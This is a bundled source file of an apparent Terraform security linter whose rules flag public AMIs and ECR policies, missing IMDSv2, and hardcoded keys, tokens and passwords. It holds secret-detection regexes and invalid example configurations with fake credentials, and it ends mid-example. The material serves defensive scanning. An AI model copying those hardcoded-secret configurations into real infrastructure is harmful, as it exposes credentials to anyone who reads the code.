#!/usr/bin/env node
// The Tollgate CLI, bundled: do not edit; run `pnpm run build:cli`.
import { createRequire as __tollgateCreateRequire } from "node:module";
const require = __tollgateCreateRequire(import.meta.url);
import {
  WORKLOAD_KINDS,
  allExpressions,
  asList,
  broadestTrust,
  containersOf,
  defineRule,
  expressionsAt,
  getPath,
  githubOidcTrust,
  isConfigureAwsCredentials,
  isObject,
  isUnknown,
  parseUses,
  podSpecOf,
  policyDocumentAt,
  referencedThrough,
  rolePolicies,
  rolesDesignatedBy
} from "./chunk-TYSPX4BW.mjs";

// packages/rules/src/terraform/iam/aws-ami-public-launch-permission.ts
var aws_ami_public_launch_permission_default = defineRule({
  meta: {
    id: "aws-ami-public-launch-permission",
    title: "AMI shared publicly (launch permission for group all)",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_ami_launch_permission"],
    description: "The launch permission makes the AMI public: every AWS account can launch it and copy its snapshots, and with them whatever was baked into the image (application code, configuration files, credentials, SSH host keys).",
    remediation: 'Share the AMI with named accounts (`account_id`), an organisation (`organization_arn`) or an organisational unit instead of `group = "all"`, and turn on the account\'s block public access for AMIs.',
    precision: "very-high",
    cwe: ["CWE-200"],
    tags: ["ec2", "ami", "public-access-policy"],
    references: ["https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/sharingamis-intro.html"]
  },
  check(permission, { report }) {
    if (permission.attributes.group !== "all") return;
    report({ at: ["group"], message: `${permission.name} makes the AMI publicly accessible to every AWS account (group = "all")` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_ami_launch_permission" "staging" {
  image_id   = aws_ami_from_instance.golden.id
  account_id = "210987654321"
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_ami_launch_permission" "everyone" {
  image_id = aws_ami_from_instance.golden.id
  group    = "all"
}
`,
        errors: [{ line: 3, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-certificate-private-key-hardcoded.ts
var PRIVATE_KEY_TYPES = ["aws_iam_server_certificate", "aws_acm_certificate"];
var PRIVATE_KEY = /-----BEGIN (RSA |EC |DSA |ENCRYPTED )?PRIVATE KEY-----/;
var aws_certificate_private_key_hardcoded_default = defineRule({
  meta: {
    id: "aws-certificate-private-key-hardcoded",
    title: "Hardcoded TLS private key in the configuration",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: PRIVATE_KEY_TYPES,
    description: "The certificate's `private_key` is a PEM private key written out in the configuration. Anyone with read access to the repository can impersonate the sites the certificate covers or decrypt traffic recorded from them, and the key cannot be taken back out of version history.",
    remediation: "Revoke and replace the certificate. Let ACM issue certificates whose keys never leave AWS, or read the key at apply time from a secret store (a sensitive variable, `aws_secretsmanager_secret_version` data source).",
    precision: "very-high",
    cwe: ["CWE-321", "CWE-798"],
    tags: ["secrets", "hardcoded-secret", "private-key", "tls"],
    references: ["https://docs.aws.amazon.com/acm/latest/userguide/import-certificate.html"]
  },
  check(certificate, { report }) {
    const key = certificate.attributes.private_key;
    if (typeof key !== "string" || !PRIVATE_KEY.test(key)) return;
    report({ at: ["private_key"], message: `${certificate.name}: private_key is a hardcoded PEM private key` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_acm_certificate" "legacy" {
  private_key      = var.legacy_tls_key
  certificate_body = file("certs/legacy.crt")
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_iam_server_certificate" "legacy" {
  name             = "legacy"
  certificate_body = file("certs/legacy.crt")
  private_key      = <<-PEM
    -----BEGIN RSA PRIVATE KEY-----
    MIIBOgIBAAJBAKj34GkxFhD90vcNLYLInFEX6Ppy1tPf9Cnzj4p4WGeKLs1Pt8Qu
    -----END RSA PRIVATE KEY-----
  PEM
}
`,
        errors: [{ line: 4, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/support/secrets.ts
var SECRET_NAME = /((^|[_-])pass$|passw(or)?d|passphrase|(^|[_-])pwd$|secret|token(s)?($|[_-])|api[_-]?key|apikey|access[_-]?key|private[_-]?key|signing[_-]?key|credential|auth[_-]?key|master[_-]?key|encryption[_-]?key)/i;
var NOT_A_SECRET_NAME = /(_arn|arns?$|_ids?$|_name$|names?$|_path$|_paths$|_file$|_length$|_len$|_size$|_ttl$|_age$|_type$|_version$|_enabled$|_enable$|_policy$|_rotation|_expir|_count$|_prefix$|_suffix$|_url$|_uri$|_endpoint$|_header$|_location$|_parameter$|_params?$|_ssm$|_secret_id$|kms|key_name|key_pair|public_key|token_url|_format$|^secret_?(name|id|arn)$|secrets?_manager|use_|_required$|_reset_|reuse|hint|min_|max_|description)/i;
function isSecretName(name) {
  if (/access[_-]?key[_-]?id$/i.test(name)) return true;
  return SECRET_NAME.test(name) && !NOT_A_SECRET_NAME.test(name);
}
var PLACEHOLDER = /^(|\s+|null|none|nil|undefined|true|false|changeme|change[_-]?me|replace[_-]?me|todo|tbd|xxx+|\*+|<[^>]*>|\{\{.*\}\}|\$\{.*\}|\$[A-Z_][A-Z0-9_]*|placeholder|dummy|example|your[_-].*|\.\.\.)$/i;
function isHardcodedSecretValue(value) {
  if (typeof value !== "string" || isUnknown(value)) return false;
  const text = value.trim();
  if (text.length < 4 || PLACEHOLDER.test(text)) return false;
  if (/^(arn:|\{\{resolve:|ssm:|secretsmanager:|vault:|projects\/|https?:\/\/|alias\/)/i.test(text)) return false;
  if (/^\/[\w.\/-]+$/.test(text)) return false;
  if (/^\d+$/.test(text)) return false;
  return true;
}
var TEXT_PATTERNS = [
  { kind: "an AWS access key ID", pattern: /\b(AKIA|ASIA)[A-Z0-9]{16}\b/ },
  { kind: "an AWS secret access key", pattern: /aws_?secret_?access_?key["']?\s*[=:]\s*["']?[A-Za-z0-9/+]{40}(?![A-Za-z0-9/+])/i },
  { kind: "a private key", pattern: /-----BEGIN (RSA |EC |DSA |OPENSSH |ENCRYPTED |PGP )?PRIVATE KEY( BLOCK)?-----/ },
  { kind: "a GitHub token", pattern: /\b(ghp|gho|ghs|ghu|github_pat)_[A-Za-z0-9_]{30,}\b/ },
  { kind: "a Slack token", pattern: /\bxox[abpr]-[A-Za-z0-9-]{10,}/ },
  {
    kind: "a password",
    // `DB_PASSWORD=s3cr3t`, `password: "s3cr3t"`; not `$PASSWORD`, `${var}`, `$(cat file)` or a `{ … }` block.
    // The name's tail is bounded: unbounded, every "pwd" in a long word scans to its end, quadratic in the word.
    pattern: /(?:passw(?:or)?d|passwd|pwd)\w{0,100}["']?\s*[=:]\s*["']?(?![$%{<(])[^\s"'$;|&]{6,}/i
  },
  {
    kind: "a password",
    // `--password s3cr3t`, `--password=s3cr3t`; not `--password-stdin`.
    pattern: /--(?:password|passwd)[= ]["']?(?![$%{<(-])[^\s"'$;|&]{6,}/i
  }
];
function secretsInText(text) {
  const kinds = [];
  for (const { kind, pattern } of TEXT_PATTERNS) {
    if (kinds.includes(kind)) continue;
    const match = pattern.exec(text);
    if (!match) continue;
    if (kind === "a password" && isPlaceholderAssignment(match[0])) continue;
    kinds.push(kind);
  }
  return kinds;
}
function isPlaceholderAssignment(assignment) {
  const value = assignment.replace(/^-*[^=:\s]*["']?\s*(?:[=:]|\s)\s*["']?/, "");
  return PLACEHOLDER.test(value) || /^(required|optional|true|false|null|none)$/i.test(value);
}
function decodeBase64Text(value) {
  const compact = value.replace(/\s+/g, "");
  if (compact.length < 8 || !/^[A-Za-z0-9+/]+={0,2}$/.test(compact)) return void 0;
  const decoded = Buffer.from(compact, "base64").toString("utf8");
  return /[\u0000-\u0008\u000e-\u001f\ufffd]/.test(decoded) ? void 0 : decoded;
}

// packages/rules/src/terraform/iam/aws-codebuild-plaintext-secret.ts
var aws_codebuild_plaintext_secret_default = defineRule({
  meta: {
    id: "aws-codebuild-plaintext-secret",
    title: "Hardcoded secret in a CodeBuild PLAINTEXT environment variable",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_codebuild_project"],
    description: "A `PLAINTEXT` environment variable of the build project holds a literal credential (a name saying password, secret, token or key, or an access key or private key as the value). Plain-text variables are shown in the console and build logs and returned by `BatchGetProjects`; the value is also in the repository and the Terraform state.",
    remediation: 'Store the value in Secrets Manager or SSM Parameter Store and use `type = "SECRETS_MANAGER"` or `"PARAMETER_STORE"` with the secret\'s name as `value`.',
    precision: "high",
    cwe: ["CWE-798"],
    tags: ["secrets", "hardcoded-secret", "codebuild", "ci"],
    references: ["https://docs.aws.amazon.com/codebuild/latest/userguide/build-env-ref-env-vars.html"]
  },
  check(project, { report }) {
    asList(project.attributes.environment).forEach((environment, environmentIndex) => {
      if (!isObject(environment)) return;
      asList(environment.environment_variable).forEach((variable, index) => {
        if (!isObject(variable) || typeof variable.name !== "string") return;
        if (variable.type !== void 0 && variable.type !== null && variable.type !== "PLAINTEXT") return;
        if (!isHardcodedSecretValue(variable.value)) return;
        const kinds = secretsInText(variable.value).filter((kind) => kind !== "a password");
        if (kinds.length === 0 && !isSecretName(variable.name)) return;
        report({
          at: ["environment", environmentIndex, "environment_variable", index, "value"],
          message: `${project.name}: PLAINTEXT environment variable ${variable.name} holds ${kinds.length > 0 ? kinds.join(", ") : "a hardcoded secret"}`
        });
      });
    });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_codebuild_project" "release" {
  name         = "release"
  service_role = aws_iam_role.release.arn
  artifacts { type = "NO_ARTIFACTS" }
  source { type = "GITHUB" }

  environment {
    compute_type = "BUILD_GENERAL1_SMALL"
    image        = "aws/codebuild/standard:7.0"
    type         = "LINUX_CONTAINER"

    environment_variable {
      name  = "NPM_TOKEN"
      type  = "SECRETS_MANAGER"
      value = "release/npm-token"
    }
  }
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_codebuild_project" "release" {
  name         = "release"
  service_role = aws_iam_role.release.arn
  artifacts { type = "NO_ARTIFACTS" }
  source { type = "GITHUB" }

  environment {
    compute_type = "BUILD_GENERAL1_SMALL"
    image        = "aws/codebuild/standard:7.0"
    type         = "LINUX_CONTAINER"

    environment_variable {
      name  = "NPM_TOKEN"
      value = "npm_Xk29fLq81ZpWm4Tr7Yb0Nc5Vd2Hs6Ja3Ge"
    }
  }
}
`,
        errors: [{ line: 14, column: 7, messageIncludes: "NPM_TOKEN" }]
      }
    ]
  }
});

// packages/rules/src/support/terraform-values.ts
function isUnset(value) {
  return value === void 0 || value === null || value === "";
}
function isTrue(value) {
  return value === true || typeof value === "string" && value.toLowerCase() === "true";
}
function isFalse(value) {
  return value === false || typeof value === "string" && value.toLowerCase() === "false";
}
function blocksOf(parent, key, base = []) {
  const value = parent[key];
  if (isUnknown(value)) return void 0;
  if (isObject(value)) return [{ block: value, at: [...base, key] }];
  return asList(value).flatMap((item, index) => isObject(item) ? [{ block: item, at: [...base, key, index] }] : []);
}
function singleBlock(parent, key, base = []) {
  const blocks = blocksOf(parent, key, base);
  if (blocks === void 0) return "unknown";
  return blocks[0];
}

// packages/rules/src/terraform/iam/aws-database-hardcoded-password.ts
var PASSWORD_ATTRIBUTE = {
  aws_db_instance: "password",
  aws_rds_cluster: "master_password",
  aws_docdb_cluster: "master_password",
  aws_redshift_cluster: "master_password",
  aws_neptune_cluster: "master_password",
  aws_elasticache_replication_group: "auth_token",
  aws_memorydb_user: "passwords"
};
var aws_database_hardcoded_password_default = defineRule({
  meta: {
    id: "aws-database-hardcoded-password",
    title: "Hardcoded database master password in clear text",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: Object.keys(PASSWORD_ATTRIBUTE),
    description: "The database's master password (or Redis auth token) is a literal in the configuration or plan. It is readable by everyone with access to the repository or the plan file, stays in version history after it is changed, and is the same for every environment built from the code.",
    remediation: "Set `manage_master_user_password = true` (RDS, Aurora, Redshift, DocumentDB) so AWS keeps the password in Secrets Manager and rotates it, or pass it from a secret store through a sensitive variable without a default.",
    precision: "very-high",
    cwe: ["CWE-798", "CWE-259"],
    tags: ["secrets", "hardcoded-secret", "hardcoded-password", "database"],
    references: [
      "https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/rds-secrets-manager.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/db_instance#manage_master_user_password"
    ]
  },
  check(database, { report }) {
    if (isTrue(database.attributes.manage_master_user_password)) return;
    const attribute = PASSWORD_ATTRIBUTE[database.type];
    const value = database.attributes[attribute];
    const values = Array.isArray(value) ? value : [value];
    if (!values.some((item) => isHardcodedSecretValue(item))) return;
    report({ at: [attribute], message: `${database.name}: ${attribute} is a hardcoded password in clear text` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_db_instance" "orders" {
  engine                      = "postgres"
  instance_class              = "db.t4g.medium"
  username                    = "orders"
  manage_master_user_password = true
}

resource "aws_rds_cluster" "reports" {
  engine          = "aurora-postgresql"
  master_username = "reports"
  master_password = var.reports_db_password
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_rds_cluster" "reports" {
  engine          = "aurora-postgresql"
  master_username = "reports"
  master_password = "Rep0rts-2024"
}
`,
        errors: [{ line: 4, column: 3, messageIncludes: "master_password" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-ec2-imdsv2-not-required.ts
var aws_ec2_imdsv2_not_required_default = defineRule({
  meta: {
    id: "aws-ec2-imdsv2-not-required",
    title: "EC2 instance metadata service does not require IMDSv2 (http_tokens)",
    severity: "medium",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_instance", "aws_launch_template", "aws_launch_configuration"],
    description: "The instance metadata service accepts IMDSv1 requests (`metadata_options.http_tokens` is not `required`). An SSRF flaw or an open proxy in any application on the instance can then fetch the instance role's temporary credentials with a plain GET request, as in the Capital One breach.",
    remediation: 'Add `metadata_options { http_tokens = "required" }` (and `http_put_response_hop_limit = 1`, or 2 for containers), or make IMDSv2 the account default with `aws_ec2_instance_metadata_defaults`.',
    precision: "very-high",
    cwe: ["CWE-918", "CWE-522"],
    frameworks: { "CIS AWS Foundations 3.0": ["5.6"] },
    tags: ["ec2", "imds", "instance-metadata", "imdsv2"],
    references: [
      "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-IMDS-new-instances.html",
      "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/instance#metadata-options"
    ]
  },
  check(resource, { graph, report }) {
    const options = resource.attributes.metadata_options;
    if (isUnknown(options)) return;
    const block = asList(options)[0];
    if (block === void 0) {
      if (accountRequiresImdsv2(graph, resource)) return;
      report({ message: `${resource.name} has no metadata_options block; instance metadata (IMDSv1) is reachable without session tokens` });
      return;
    }
    if (!isObject(block)) return;
    const base = isObject(options) ? ["metadata_options"] : ["metadata_options", 0];
    if (block.http_endpoint === "disabled") return;
    const tokens = block.http_tokens;
    if (isUnknown(tokens) || tokens === "required") return;
    if (tokens === void 0 || tokens === null) {
      if (accountRequiresImdsv2(graph, resource)) return;
      report({ at: base, message: `${resource.name}: metadata_options does not set http_tokens = "required"; IMDSv1 stays enabled` });
      return;
    }
    report({ at: [...base, "http_tokens"], message: `${resource.name}: metadata_options.http_tokens is "${String(tokens)}"; instance metadata accepts IMDSv1 requests without session tokens` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_instance" "app" {
  ami           = "ami-0abcdef1234567890"
  instance_type = "t3.small"

  metadata_options {
    http_tokens                 = "required"
    http_put_response_hop_limit = 1
  }
}
`
      },
      {
        name: "account default requires IMDSv2",
        filename: "main.tf",
        code: `resource "aws_ec2_instance_metadata_defaults" "account" {
  http_tokens = "required"
}

resource "aws_instance" "app" {
  ami           = "ami-0abcdef1234567890"
  instance_type = "t3.small"
}
`
      }
    ],
    invalid: [
      {
        name: "no metadata_options",
        filename: "main.tf",
        code: `resource "aws_instance" "app" {
  ami           = "ami-0abcdef1234567890"
  instance_type = "t3.small"
}
`,
        errors: [{ line: 1, column: 1 }]
      },
      {
        name: "optional tokens in a launch template",
        filename: "main.tf",
        code: `resource "aws_launch_template" "workers" {
  name_prefix = "workers-"
  image_id    = "ami-0abcdef1234567890"

  metadata_options {
    http_endpoint = "enabled"
    http_tokens   = "optional"
  }
}
`,
        errors: [{ line: 7, column: 5, messageIncludes: '"optional"' }]
      },
      {
        name: "block without http_tokens",
        filename: "main.tf",
        code: `resource "aws_launch_template" "workers" {
  name_prefix = "workers-"
  image_id    = "ami-0abcdef1234567890"

  metadata_options {
    http_put_response_hop_limit = 2
  }
}
`,
        errors: [{ line: 5, column: 3 }]
      }
    ]
  }
});
function accountRequiresImdsv2(graph, resource) {
  const group = resource.id.slice(0, resource.id.indexOf("::"));
  return graph.ofType("aws_ec2_instance_metadata_defaults").some((defaults) => defaults.id.slice(0, defaults.id.indexOf("::")) === group && defaults.attributes.http_tokens === "required");
}

// packages/rules/src/terraform/iam/aws-ec2-user-data-hardcoded-secret.ts
var USER_DATA = {
  aws_instance: [
    { key: "user_data", base64: false },
    { key: "user_data_base64", base64: true }
  ],
  aws_launch_configuration: [
    { key: "user_data", base64: false },
    { key: "user_data_base64", base64: true }
  ],
  aws_launch_template: [{ key: "user_data", base64: true }]
};
var aws_ec2_user_data_hardcoded_secret_default = defineRule({
  meta: {
    id: "aws-ec2-user-data-hardcoded-secret",
    title: "Hardcoded secret (access key, password, private key) in EC2 user_data",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: Object.keys(USER_DATA),
    description: "The instance's boot script contains a credential: an AWS access key, a password assignment, a private key, or a variable whose default is a hardcoded secret. User data is readable by anyone who can describe the instance or reach its metadata service, is kept in the Terraform state and the repository, and cannot be rotated without replacing the instance.",
    remediation: "Give the instance an IAM role (instance profile) instead of access keys, and fetch other secrets at boot from AWS Secrets Manager or SSM Parameter Store (SecureString) with that role.",
    precision: "high",
    cwe: ["CWE-798"],
    tags: ["secrets", "hardcoded-secret", "ec2", "user-data"],
    references: [
      "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/user-data.html",
      "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/iam-roles-for-amazon-ec2.html"
    ]
  },
  check(resource, { graph, report }) {
    for (const { key, base64 } of USER_DATA[resource.type] ?? []) {
      const value = resource.attributes[key];
      const found = [];
      if (typeof value === "string") {
        const text = base64 ? decodeBase64Text(value) : value;
        if (text !== void 0) found.push(...secretsInText(text));
      }
      for (const variable of referencedThrough(graph, resource, [key])) {
        const name = variable.name.replace(/^var\./, "");
        if (variable.type === "variable" && isSecretName(name) && isHardcodedSecretValue(variable.attributes.default)) {
          found.push(`variable "${name}", whose default is a hardcoded secret`);
        }
      }
      if (found.length === 0) continue;
      report({ at: [key], message: `${resource.name}: ${key} contains a hardcoded secret: ${found.join(", ")}` });
    }
  },
  examples: {
    valid: [
      {
        name: "secrets fetched at boot with the instance role",
        filename: "main.tf",
        code: `resource "aws_instance" "app" {
  ami                  = "ami-0abcdef1234567890"
  instance_type        = "t3.small"
  iam_instance_profile = aws_iam_instance_profile.app.name
  user_data            = <<-SCRIPT
    #!/bin/bash
    DB_PASSWORD=$(aws secretsmanager get-secret-value --secret-id app/db --query SecretString --output text)
    export DB_PASSWORD
    aws ecr get-login-password | docker login --username AWS --password-stdin 123456789012.dkr.ecr.eu-west-1.amazonaws.com
    echo "password requisite pam_pwquality.so retry=3" >> /etc/pam.d/common-password
  SCRIPT
}
`
      }
    ],
    invalid: [
      {
        name: "access key in the script",
        filename: "main.tf",
        code: `resource "aws_instance" "app" {
  ami           = "ami-0abcdef1234567890"
  instance_type = "t3.small"
  user_data     = <<-SCRIPT
    #!/bin/bash
    export AWS_ACCESS_KEY_ID=AKIA2E0A8F3B244C9986
    export AWS_SECRET_ACCESS_KEY=k8Rv0q2Lw9yTn4Xb7Zc1Md6Pf3Hs5Ju8Ge0Ai2Wq
    /opt/app/start.sh
  SCRIPT
}
`,
        errors: [{ line: 4, column: 3, messageIncludes: "an AWS access key ID, an AWS secret access key" }]
      },
      {
        name: "variable with a hardcoded default interpolated",
        filename: "main.tf",
        code: `variable "db_password" {
  default = "Winter2024!"
}

resource "aws_instance" "app" {
  ami           = "ami-0abcdef1234567890"
  instance_type = "t3.small"
  user_data     = <<-SCRIPT
    #!/bin/bash
    echo "DB_PASS=\${var.db_password}" > /etc/app.env
  SCRIPT
}
`,
        errors: [{ line: 8, column: 3, messageIncludes: 'variable "db_password"' }]
      },
      {
        name: "password in a base64 launch template script",
        filename: "main.tf",
        code: `resource "aws_launch_template" "workers" {
  name_prefix   = "workers-"
  image_id      = "ami-0abcdef1234567890"
  user_data     = "IyEvYmluL2Jhc2gKTVlTUUxfUEFTU1dPUkQ9U3VtbWVyMjAyNCEgL29wdC9hcHAvc3RhcnQuc2gK"
  instance_type = "t3.small"
}
`,
        errors: [{ line: 4, column: 3, messageIncludes: "a password" }]
      }
    ]
  }
});

// packages/rules/src/support/iam-policy.ts
function readPolicy(value) {
  let document = value;
  if (typeof value === "string") {
    try {
      document = JSON.parse(value);
    } catch {
      return void 0;
    }
  }
  if (!isObject(document)) return void 0;
  const raw = document.Statement;
  if (raw === void 0 || isUnknown(raw)) return void 0;
  const statements = Array.isArray(raw) ? raw : [raw];
  return statements.flatMap((statement, index) => isObject(statement) ? [readStatement(statement, index)] : []);
}
function readStatement(statement, index) {
  let partial = false;
  const strings = (field) => {
    if (field === void 0 || field === null) return [];
    if (isUnknown(field)) {
      partial = true;
      return [];
    }
    const list = Array.isArray(field) ? field : [field];
    return list.flatMap((item) => {
      if (typeof item === "string") return [item];
      if (typeof item === "boolean" || typeof item === "number") return [String(item)];
      partial = true;
      return [];
    });
  };
  const read = {
    index,
    sid: typeof statement.Sid === "string" ? statement.Sid : void 0,
    effect: statement.Effect === "Deny" ? "Deny" : "Allow",
    actions: strings(statement.Action),
    notActions: strings(statement.NotAction),
    resources: strings(statement.Resource),
    notResources: strings(statement.NotResource),
    principal: readPrincipal(statement.Principal, strings),
    conditions: {},
    partial: false
  };
  if (isObject(statement.Condition)) {
    for (const [operator, keys] of Object.entries(statement.Condition)) {
      if (!isObject(keys)) continue;
      read.conditions[operator] = {};
      for (const [key, values] of Object.entries(keys)) read.conditions[operator][key] = strings(values);
    }
  } else if (isUnknown(statement.Condition)) {
    partial = true;
  }
  read.partial = partial;
  return read;
}
function readPrincipal(principal, strings) {
  if (principal === void 0) return void 0;
  if (principal === "*") return "*";
  if (!isObject(principal)) return void 0;
  const result = {};
  for (const [type, values] of Object.entries(principal)) result[type] = strings(values);
  if (result.AWS?.includes("*")) return "*";
  return result;
}
function actionMatches(pattern, action) {
  const source = [...pattern].map((char) => char === "*" ? ".*" : char === "?" ? "." : char.replace(/[.+^${}()|[\]\\]/g, "\\$&")).join("");
  return new RegExp(`^${source}$`, "i").test(action);
}
function grantsFullAdmin(statement) {
  return statement.effect === "Allow" && statement.actions.includes("*") && statement.resources.includes("*");
}

// packages/rules/src/support/aws-policy-source.ts
function policyAt(graph, resource, attribute) {
  const document = policyDocumentAt(graph, resource, attribute);
  if (!document) return void 0;
  const statements = readPolicy(document.document);
  if (!statements) return void 0;
  return {
    statements,
    at: attribute,
    related: (statement) => document.resource === resource ? [] : [{ resource: document.resource.id, at: document.statementAt(statement.index), message: `${statementLabel(statement)} of ${document.resource.name}` }]
  };
}
var IDENTITY_POLICY_TYPES = ["aws_iam_policy", "aws_iam_role_policy", "aws_iam_user_policy", "aws_iam_group_policy", "aws_iam_role"];
function identityPoliciesOf(graph, resource) {
  if (resource.mode === "data") return [];
  if (resource.type !== "aws_iam_role") {
    const policy = policyAt(graph, resource, ["policy"]);
    return policy ? [policy] : [];
  }
  const blocks = resource.attributes.inline_policy;
  if (!Array.isArray(blocks)) return [];
  return blocks.flatMap((_, index) => {
    const policy = policyAt(graph, resource, ["inline_policy", index, "policy"]);
    return policy ? [policy] : [];
  });
}
function statementLabel(statement) {
  return statement.sid ? `statement "${statement.sid}"` : `statement ${statement.index + 1}`;
}
var NARROWING_KEYS = /* @__PURE__ */ new Set([
  "aws:principalorgid",
  "aws:principalorgpaths",
  "aws:principalaccount",
  "aws:principalarn",
  "aws:principalservicename",
  "aws:sourceip",
  "aws:sourcevpc",
  "aws:sourcevpce",
  "aws:sourcearn",
  "aws:sourceaccount",
  "aws:sourceorgid",
  "aws:sourceorgpaths",
  "aws:userid",
  "aws:username",
  "aws:calledvia",
  "kms:calleraccount",
  "kms:viaservice",
  "lambda:functionarn",
  "s3:dataaccesspointaccount",
  "s3:dataaccesspointarn"
]);
function narrowsCallers(statement) {
  for (const [operator, keys] of Object.entries(statement.conditions)) {
    if (/not/i.test(operator.replace(/^(ForAnyValue|ForAllValues):/i, ""))) continue;
    for (const [key, values] of Object.entries(keys)) {
      if (!NARROWING_KEYS.has(key.toLowerCase()) || values.length === 0) continue;
      if (values.some((value) => value === "*")) continue;
      return true;
    }
  }
  return false;
}
function allowsAnyone(statement) {
  return !statement.partial && statement.effect === "Allow" && statement.principal === "*" && !narrowsCallers(statement);
}
function actionsText(statement) {
  if (statement.actions.length > 0) return statement.actions.join(", ");
  if (statement.notActions.length > 0) return `every action except ${statement.notActions.join(", ")}`;
  return "no action";
}

// packages/rules/src/terraform/iam/aws-ecr-repository-policy-public.ts
var aws_ecr_repository_policy_public_default = defineRule({
  meta: {
    id: "aws-ecr-repository-policy-public",
    title: "ECR repository policy allows any principal (public repository)",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_ecr_repository_policy"],
    description: 'The repository policy allows `Principal: "*"` with no condition naming an account or organisation. Any AWS account can pull the private images (and the code and secrets baked into them), or, when push actions are allowed, replace them with its own.',
    remediation: "Name the accounts that pull or push in `Principal`, or add an `aws:PrincipalOrgID` condition. Publish images meant for the public in an ECR Public repository instead.",
    precision: "high",
    cwe: ["CWE-732"],
    tags: ["ecr", "resource-policy", "public-access-policy"],
    references: ["https://docs.aws.amazon.com/AmazonECR/latest/userguide/repository-policies.html"]
  },
  check(policyResource, { graph, report }) {
    const policy = policyAt(graph, policyResource, ["policy"]);
    for (const statement of policy?.statements ?? []) {
      if (!allowsAnyone(statement)) continue;
      report({
        at: policy.at,
        message: `${policyResource.name}: ${statementLabel(statement)} allows any principal (Principal "*") to ${actionsText(statement)}`,
        related: policy.related(statement)
      });
    }
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_ecr_repository_policy" "api" {
  repository = aws_ecr_repository.api.name
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Sid       = "OrgPull"
      Effect    = "Allow"
      Principal = "*"
      Action    = ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"]
      Condition = { StringEquals = { "aws:PrincipalOrgID" = "o-a1b2c3d4e5" } }
    }]
  })
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_ecr_repository_policy" "api" {
  repository = aws_ecr_repository.api.name
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Sid       = "Pull"
      Effect    = "Allow"
      Principal = { AWS = "*" }
      Action    = ["ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"]
    }]
  })
}
`,
        errors: [{ line: 3, column: 3, messageIncludes: "ecr:BatchGetImage" }]
      }
    ]
  }
});

// packages/rules/src/terraform/iam/aws-ecs-task-definition-hardcoded-secret.ts
var aws_ecs_task_definition_hardcoded_secret_default = defineRule({
  meta: {
    id: "aws-ecs-task-definition-hardcoded-secret",
    title: "Hardcoded secret in ECS task definition container environment",
    severity: "high",
    category: "iam",
    platforms: ["terraform"],
    resourceTypes: ["aws_ecs_task_definition"],
    description: "A container's `environment` in `container_definitions` holds a literal credential: a variable named like a password, secret, token or key, or an AWS access key or private key as a value. Task definitions are readable by anyone with `ecs:DescribeTaskDefinition`, every revision keeps the value forever, and it is also in the repository and the Terraform state.",
    remediation: "Move the value to AWS Secrets Manager or SSM Parameter Store and reference it from the container's `secrets` list (`valueFrom`), which ECS injects at start; use the task role instead of access keys.",
    precision: "high",
    cwe: ["CWE-798"],
    tags: ["secrets", "hardcoded-secret", "ecs", "environment-variables"],
    references: ["https://docs.aws.amazon.com/AmazonECS/latest/developerguide/specifying-sensitive-data.html"]
  },
  check(task, { report }) {
    const definitions = parseDefinitions(task.attributes.container_definitions);
    if (!definitions) return;
    const found = [];
    for (const container of definitions) {
      if (!isObject(container) || !Array.isArray(container.environment)) continue;
      const containerName = typeof container.name === "string" ? container.name : "container";
      for (const variable of container.environment) {
        if (!isObject(variable) || typeof variable.name !== "string" || !isHardcodedSecretValue(variable.value)) continue;
        const kinds = secretsInText(variable.value).filter((kind) => kind !== "a password");
        if (kinds.length > 0 || isSecretName(variable.name)) found.push(`${containerName}: ${variable.name}`);
      }
    }
    if (found.length === 0) return;
    report({ at: ["container_definitions"], message: `${task.name}: container environment holds hardcoded secrets (${found.join(", ")}); use secrets with valueFrom` });
  },
  examples: {
    valid: [
      {
        filename: "main.tf",
        code: `resource "aws_ecs_task_definition" "api" {
  family = "api"
  container_definitions = jsonencode([{
    name        = "api"
    image       = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/api:1.4.2"
    environment = [{ name = "LOG_LEVEL", value = "info" }]
    secrets     = [{ name = "DB_PASSWORD", valueFrom = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:api/db" }]
  }])
}
`
      }
    ],
    invalid: [
      {
        filename: "main.tf",
        code: `resource "aws_ecs_task_definition" "api" {
  family = "api"
  container_definitions = jsonencode([{
    name  = "api"
    image = "123456789012.dkr.ecr.eu-west-1.amazonaws.com/api:1.4.2"
    environment = [
      { name = "LOG_LEVEL", value = "info" },
      { name = "DB_PASSWORD", value = "Winter2024!" }
    ]
  }])
}
